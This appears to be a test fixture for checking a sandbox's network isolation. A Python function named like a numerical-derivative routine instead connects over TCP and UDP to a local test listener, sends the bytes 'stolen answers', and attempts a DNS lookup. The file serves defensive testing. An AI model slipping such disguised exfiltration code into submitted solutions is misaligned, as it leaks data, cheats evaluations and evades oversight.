"""Attack: reach the network: TCP to a listener the test opened on 127.0.0.1 (and ::1),
a UDP datagram to it, and a DNS lookup."""

import socket

PORT = "__PORT__"


def numerical_derivative(f, x, h=1e-5):
    results = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(0.5)
                s.connect((host, int(PORT)))
                s.sendall(b"stolen answers")
                results.append(f"tcp {host} connected")
        except OSError as exc:
            results.append(f"tcp {host} {type(exc).__name__}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"stolen answers", ("127.0.0.1", int(PORT)))
            results.append("udp sent")
    except OSError as exc:
        results.append(f"udp {type(exc).__name__}")
    try:
        socket.getaddrinfo("example.com", 80)
        results.append("dns resolved")
    except OSError as exc:
        results.append(f"dns {type(exc).__name__}")
    return results


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
